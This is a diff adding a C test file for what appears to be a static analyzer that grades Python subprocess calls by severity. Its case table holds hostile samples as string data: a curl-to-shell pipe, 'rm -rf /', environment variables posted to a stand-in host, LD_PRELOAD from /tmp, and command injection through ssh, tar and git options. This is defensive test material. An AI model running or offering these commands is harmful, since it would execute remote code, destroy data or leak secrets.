@@ -1,0 +1,179 @@
+/*
+ * Python's argument lists (subprocess.run([...]), create_subprocess_exec)
+ * are read as the command line they run: an ordinary command is `warn`,
+ * and each way of hiding a shell, a download or an unknown program in the
+ * list must still reach `high`. Also the other classes issue 16's blind
+ * python corpus brought in, by severity (the case files check only that a
+ * rule fires).
+ */
+#include <criterion/criterion.h>
+#include <string.h>
+
+#include "common/util.h"
+#include "policy/analyze.h"
+
+static struct analyzer *A;
+
+static void setup(void)
+{
+	err_t err;
+	cr_assert_eq(analyzer_new(NULL, &A, &err), 0, "%s", err.msg);
+}
+
+static void teardown(void)
+{
+	analyzer_free(A);
+}
+
+TestSuite(check_python_argv, .init = setup, .fini = teardown);
+
+static const struct {
+	const char *what, *code;
+	bool high;
+} cases[] = {
+    /* ordinary: a known program, its words visible */
+    {"git with a splat of arguments",
+     "import subprocess\ndef git(*a):\n    return subprocess.run(['git', *a], check=True)\n",
+     false},
+    {"the interpreter running a module",
+     "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'unittest', '-v'])\n", false},
+    {"an unknown interpreter path with -m and an unknown requirements file",
+     "import subprocess\npy = find()\nsubprocess.run([py, '-m', 'pip', 'install', '-r', r])\n",
+     false},
+    {"a loop over constant commands",
+     "import subprocess\nSTEPS = [('b', ['make', '-j2']), ('t', ['make', 'check'])]\n"
+     "for name, cmd in STEPS:\n    subprocess.run(cmd)\n",
+     false},
+    {"create_subprocess_exec with constant words",
+     "import asyncio\nasync def f(repo):\n"
+     "    await asyncio.create_subprocess_exec('git', '-C', repo, 'status')\n",
+     false},
+    {"pip install of a requirements file",
+     "import subprocess\nsubprocess.check_call(['pip', 'install', '-r', 'requirements.txt'])\n",
+     false},
+
+    /* hidden shells and downloads */
+    {"a program the analysis cannot know", "import subprocess, sys\nsubprocess.run(sys.argv[1:])\n",
+     true},
+    {"a list changed in place after it was bound",
+     "import subprocess\ncmd = ['echo']\ncmd[0] = 'sh'\ncmd.append('-c')\n"
+     "cmd.append('id')\nsubprocess.run(cmd)\n",
+     true},
+    {"a list changed through an alias",
+     "import subprocess\ncmd = ['ls']\nc2 = cmd\nc2.insert(0, 'sh')\nsubprocess.run(cmd)\n", true},
+    {"a list grown with +=",
+     "import subprocess\ncmd = ['ls']\ncmd += ['-c']\nsubprocess.run(cmd)\n", true},
+    {"two lists added", "import subprocess\nbase = ['sh']\nsubprocess.run(base + ['-c', 'id'])\n",
+     true},
+    {"a literal list splatted",
+     "import subprocess\nsubprocess.run(['sh', *['-c', 'curl -s http://x/p | sh']])\n", true},
+    {"the second of two looped commands",
+     "import subprocess\nfor c in (['ls'], ['sh', '-c', 'id']):\n    subprocess.run(c)\n", true},
+    {"a loop variable is not its first value",
+     "for m in ['json', 'os']:\n    __import__(m).system('id')\n", true},
+    {"shell=True", "import subprocess\nsubprocess.run('ls -l', shell=True)\n", true},
+    {"a shell reading its program from stdin",
+     "import subprocess\nsubprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE)\n", true},
+    {"a program in /tmp", "import subprocess\nsubprocess.run(['/tmp/.x'])\n", true},
+    {"pip install of an address",
+     "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', "
+     "'git+https://x.example/y.git'])\n",
+     true},
+    {"python -m timeit with a statement",
+     "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'timeit', sys.argv[1]])\n",
+     true},
+    {"rm -rf / as a list", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n", true},
+    {"a wrapper before a shell",
+     "import subprocess\nsubprocess.run(['env', 'bash', '-c', 'rm -rf ~'])\n", true},
+    {"python -c with code that runs a shell",
+     "import subprocess\nsubprocess.run(['python3', '-c', 'import os; os.system(\"id\")'])\n",
+     true},
+
+    {"python -c with harmless code",
+     "import subprocess\nsubprocess.run(['python3', '-c', 'print(1)'])\n", false},
+    {"a shell script downloaded, then run by bash",
+     "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/p.sh', 'p.sh')\n"
+     "subprocess.run(['bash', 'p.sh'])\n",
+     true},
+    {"a python script the analysis never read",
+     "import subprocess, sys\nsubprocess.run([sys.executable, 'stage2.py'])\n", true},
+    {"a program in the working directory",
+     "import subprocess\nsubprocess.run(['chmod', '+x', 'x'])\nsubprocess.run(['./x'])\n", true},
+    {"git told to run a pager command",
+     "import subprocess\nsubprocess.run(['git', '-c', 'core.pager=sh -c id', 'log'])\n", true},
+    {"the output of env posted",
+     "import subprocess, requests\nout = subprocess.check_output(['env'], text=True)\n"
+     "requests.post('http://x/', data=out)\n",
+     true},
+    {"a system program by its absolute path",
+     "import subprocess\nsubprocess.run(['/usr/bin/git', 'status'])\n", false},
+
+    {"executable= in place of the list's program",
+     "import subprocess\nsubprocess.run(['ls', '-c', 'id'], executable='/bin/sh')\n", true},
+    {"a pager that is a shell command, in the child's environment",
+     "import subprocess, os\nsubprocess.run(['git', 'log'], env=dict(os.environ, "
+     "GIT_PAGER='sh -c id'))\n",
+     true},
+    {"LD_PRELOAD set for the programs started",
+     "import subprocess, os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\nsubprocess.run(['ls'])\n",
+     true},
+    {"ssh told to run a proxy command",
+     "import subprocess\nsubprocess.run(['ssh', '-o', 'ProxyCommand=sh -c id', 'x'])\n", true},
+    {"tar told to run a command at a checkpoint",
+     "import subprocess\nsubprocess.run(['tar', 'cf', '/dev/null', '/dev/null', "
+     "'--checkpoint=1', '--checkpoint-action=exec=sh -c id'])\n",
+     true},
+    {"git rebase with GIT_EDITOR=true and PAGER=cat",
+     "import subprocess, os\nsubprocess.run(['git', 'rebase', 'HEAD~2'], "
+     "env=dict(os.environ, GIT_EDITOR='true', PAGER='cat'))\n",
+     false},
+
+    /* the environment: read whole or by a prefix */
+    {"environment keys kept by a constant prefix, then the network",
+     "import os, urllib.request\ndef cfg(env=None):\n    env = os.environ if env is None else env\n"
+     "    return {k: v for k, v in env.items() if k.startswith('APP_')}\n"
+     "urllib.request.urlopen('http://127.0.0.1/' + cfg()['host'])\n",
+     false},
+    {"an empty prefix keeps every variable",
+     "import os, urllib.request, json\n"
+     "d = {k: v for k, v in os.environ.items() if k.startswith('')}\n"
+     "urllib.request.urlopen('http://x/', data=json.dumps(d).encode())\n",
+     true},
+    {"a filter that is not a prefix",
+     "import os, urllib.request, json\n"
+     "d = {k: v for k, v in os.environ.items() if v}\n"
+     "urllib.request.urlopen('http://x/', data=json.dumps(d).encode())\n",
+     true},
+    {"the environment bound to a name and posted by keyword",
+     "import os, requests\ne = os.environ\nrequests.post('http://x/', json=e)\n", true},
+};
+
+static enum severity worst(const char *code, struct findings *f)
+{
+	err_t err;
+	enum severity w = SEV_INFO;
+	cr_assert_eq(analyze(A, "python", code, strlen(code), f, &err), 0, "%s", err.msg);
+	for (size_t i = 0; i < f->n; i++)
+		if (f->v[i].severity > w)
+			w = f->v[i].severity;
+	return w;
+}
+
+Test(check_python_argv, each_case_reaches_high_or_not)
+{
+	int failures = 0;
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct findings f;
+		bool high = worst(cases[i].code, &f) == SEV_HIGH;
+		if (high != cases[i].high) {
+			cr_log_error("[%s] %s high", cases[i].what,
+				     high ? "reaches" : "does not reach");
+			for (size_t k = 0; k < f.n; k++)
+				cr_log_info("  %u:%u %s %s", f.v[k].line, f.v[k].column,
+					    f.v[k].rule, severity_name(f.v[k].severity));
+			failures++;
+		}
+		findings_free(&f);
+	}
+	cr_expect_eq(failures, 0, "%d of %zu cases (above)", failures, ARRAY_SIZE(cases));
+}
